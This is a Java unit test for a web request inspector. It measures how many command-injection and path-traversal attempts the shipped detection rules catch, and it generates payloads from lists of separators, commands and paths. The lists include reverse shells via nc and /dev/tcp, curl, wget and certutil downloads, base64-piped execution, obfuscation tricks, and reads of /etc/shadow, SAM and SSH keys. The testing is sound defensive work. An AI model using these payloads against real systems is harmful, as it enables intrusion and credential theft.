package dev.spoor.scoring.inspect;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.greaterThanOrEqualTo;

import dev.spoor.model.Level;
import dev.spoor.model.RequestEvent;
import dev.spoor.model.RequestHits;
import dev.spoor.scoring.rules.RuleInfo;
import dev.spoor.scoring.rules.RuleSet;
import dev.spoor.scoring.rules.RuleSource;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.List;
import org.junit.Test;

/**
 * How many attacks the rules that ship find, of kinds that are put together here from what
 * attackers vary: how a command is appended, which it is, how it is hidden; how a path climbs, and
 * where to.
 */
public class AttackValuesTest {
  private static final String[] BEFORE = {"", "x", "127.0.0.1", "a.txt", "-1", "\"", "'", "en"};
  private static final String[] APPENDED = {
    ";%s",
    "; %s",
    "|%s",
    "| %s",
    "||%s",
    "|| %s",
    "&%s",
    "& %s",
    "&&%s",
    "&& %s",
    ";%s;",
    "|%s|",
    ";%s #",
    "`%s`",
    "$(%s)",
    "\n%s",
    "\r\n%s\r\n",
    ";%s&",
    "&%s&",
    "; %s |",
    "a);%s;(",
    "';%s;'",
    "\";%s;\"",
    "'|%s|'",
    "$(%s",
    "%%0a%s"
  };
  private static final String[] UNIX = {
    "id",
    "whoami",
    "ls",
    "ls -la",
    "pwd",
    "uname -a",
    "cat /etc/passwd",
    "ifconfig",
    "netstat -an",
    "ps aux",
    "env",
    "sleep 5",
    "sleep 10",
    "ping -c 3 192.0.2.1",
    "curl http://192.0.2.1/x",
    "wget http://a.example/x.sh",
    "wget a.example/x",
    "nslookup a.example",
    "nc -e /bin/sh 192.0.2.1 99",
    "/bin/cat /etc/hosts",
    "/usr/bin/id",
    "/bin/ls -al",
    "cat /etc/shadow",
    "tail -n 5 /var/log/syslog",
    "echo aGk=|base64 -d|sh",
    "touch /tmp/x",
    "rm -rf /tmp/x",
    "bash -i >& /dev/tcp/192.0.2.1/9 0>&1",
    "sh -c id",
    "python -c 'import os'",
    "perl -e 'print 1'",
    "cat ../config.php",
    "find / -name x",
    "chmod 777 /tmp/x",
    "head /etc/group",
    "id>/tmp/x",
    "cat$IFS/etc/passwd",
    "cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "cat</etc/passwd",
    "c\\at /etc/passwd",
    "c'a't /etc/passwd",
    "who$@ami",
    "w\"h\"oami",
    "/???/c?t /???/p?sswd",
    "dig a.example",
    "hostname",
    "telnet 192.0.2.1 25"
  };
  private static final String[] WINDOWS = {
    "dir",
    "dir c:\\",
    "ipconfig",
    "ipconfig /all",
    "whoami",
    "type c:\\boot.ini",
    "net user",
    "systeminfo",
    "tasklist",
    "ping -n 3 192.0.2.1",
    "ver",
    "set",
    "cmd /c dir",
    "cmd.exe /c whoami",
    "powershell -enc AAAA",
    "powershell.exe Get-Process",
    "wh^oami",
    "net localgroup administrators",
    "nslookup a.example",
    "certutil -urlcache -f http://192.0.2.1/a a.exe",
    "reg query HKLM",
    "type %SYSTEMROOT%\\win.ini",
    "echo x > c:\\x.txt",
    "timeout /t 5",
    "wmic process list"
  };
  private static final String[] STEPS = {
    "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..%c0%af",
    "..%5c", "....//", "..././", "..;/", "%uff0e%uff0e/", "..%u2215", "%c0%ae%c0%ae/", "..//"
  };
  private static final String[] FILES = {
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "windows/win.ini",
    "boot.ini",
    "proc/self/environ",
    "var/log/apache2/access.log",
    "WEB-INF/web.xml",
    "index.php",
    "config/database.yml",
    "app.ini",
    "home/ann/.ssh/id_rsa",
    "etc/passwd%00.jpg",
    "secret",
    "winnt/system32/cmd.exe",
    ""
  };
  private static final String[] WHOLE_PATHS = {
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/apache2/apache2.conf",
    "/etc/ssh/sshd_config",
    "/proc/self/environ",
    "/proc/version",
    "/proc/self/fd/3",
    "/var/log/auth.log",
    "/root/.bash_history",
    "/var/log/nginx/access.log",
    "C:\\boot.ini",
    "C:/Windows/win.ini",
    "c:\\windows\\system32\\config\\sam",
    "file:///etc/passwd",
    "\\\\192.0.2.1\\share\\x",
    "/usr/local/apache2/conf/httpd.conf",
    "/var/www/html/wp-config.php",
    "/root/.ssh/id_rsa",
    "C:\\inetpub\\wwwroot\\web.config",
    "/etc/my.cnf",
    "/etc/crontab",
    "/var/lib/mysql/mysql/user.MYD",
    "/home/ann/.ssh/authorized_keys"
  };

  private final RuleSet rules = RuleSet.of(RuleSource.BUILT_IN);
  private final RequestInspector inspector = new RequestInspector(rules);
  private final RequestEvent event = new RequestEvent();
  private final RequestHits hits = new RequestHits();
  private final List<String> missed = new ArrayList<>();
  private int tried;

  private void tryQuery(String query) {
    event.reset();
    event.method.set("GET".getBytes(UTF_8));
    event.target.set("/view".getBytes(UTF_8));
    event.path.set("/view".getBytes(UTF_8));
    event.query.set(query.getBytes(UTF_8));
    event.userAgent.set("Mozilla/5.0 (X11; Linux x86_64; rv:128.0)".getBytes(UTF_8));
    inspector.inspect(event, hits);
    tried++;
    for (int i = 0; i < hits.count; i++) {
      RuleInfo rule = rules.byKey(hits.rules[i]);
      if (rule != null && !rule.shadow() && rule.level().compareTo(Level.MEDIUM) >= 0) {
        return;
      }
    }
    missed.add(query);
  }

  private void assertFound(double share) {
    List<String> some = new ArrayList<>();
    for (int i = 0; i < missed.size(); i += 1 + missed.size() / 60) {
      some.add(missed.get(i));
    }
    assertThat(
        String.join("\n", some),
        (double) (tried - missed.size()) / tried,
        greaterThanOrEqualTo(share));
  }

  private void commands(String[] commands) {
    for (String command : commands) {
      for (String appended : APPENDED) {
        for (String before : BEFORE) {
          tryQuery("host=" + URLEncoder.encode(before + String.format(appended, command), UTF_8));
        }
      }
    }
  }

  @Test
  public void mostCommandsOfUnix() {
    commands(UNIX);
    assertFound(0.97);
  }

  @Test
  public void mostCommandsOfWindows() {
    commands(WINDOWS);
    assertFound(0.95);
  }

  @Test
  public void mostPathsThatClimb() {
    for (String step : STEPS) {
      for (int steps = 2; steps < 9; steps += 2) {
        for (String file : FILES) {
          for (String before : new String[] {"", "/", "img/", "/var/www/", "./", "x/"}) {
            tryQuery("file=" + before + step.repeat(steps) + file.replace(' ', '+'));
          }
        }
      }
    }
    assertFound(0.99);
  }

  @Test
  public void pathsToFilesOfTheSystem() {
    for (String path : WHOLE_PATHS) {
      tryQuery("file=" + URLEncoder.encode(path, UTF_8));
      tryQuery("file=" + path);
    }
    assertFound(1);
  }
}
